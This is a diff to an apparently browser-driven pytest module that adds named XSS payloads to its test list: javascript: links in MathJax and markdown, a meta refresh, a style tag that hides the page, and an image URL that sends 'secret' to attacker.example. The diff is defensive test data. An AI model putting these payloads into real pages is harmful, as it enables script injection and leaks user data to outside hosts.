@@ -57,7 +57,17 @@ require_browser()  # skips the module (fails under CI=true) without chromium or 
 
 pytestmark = pytest.mark.timeout(300)
 
-PAYLOADS = [p.text for p in sample(300)]
+NAMED = [
+    "$\\href{javascript:alert(1)}{math link}$",
+    "$$\\href{javascript:alert(1)}{display math link}$$",
+    "[markdown link](javascript:alert(1))",
+    "![remote image](https://attacker.example/pixel.png?q=secret)",
+    "<style>body{display:none}</style>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+]
+"""Attacks the issue names, beside the public list (math links: MathJax typesets every
+HTML output's ``$…$``)."""
+PAYLOADS = NAMED + [p.text for p in sample(300)]
 CHUNK_CHARS = 1_800
 """Payloads per tool result: a card shows the first 2,000 characters of a result."""
 ECHO = "mcp__demo__echo"
